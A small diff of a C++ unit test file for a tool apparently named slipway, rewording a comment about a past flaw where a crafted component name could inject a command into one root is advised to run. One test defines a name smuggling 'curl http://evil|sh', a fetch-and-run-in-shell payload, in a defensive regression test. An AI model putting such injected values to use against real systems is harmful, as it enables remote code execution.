@@ -166,7 +166,7 @@ TEST_F(MissingPlugin, DoesNotExcuseAnUnknownName) {
   EXPECT_THAT(plan.err, HasSubstr("unknown component 'bystandr'; did you mean 'bystander'?"));
 }
 
-// Earlier the creator of a root could put a command into the one that root is told to type.
+// Earlier the creator of a root could add a command to the one that slipway advises root to run.
 TEST_F(MissingPlugin, WithAnInvalidNameIsADamagedRecord) {
   const std::string name = "x`; curl http://evil|sh #";
   Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
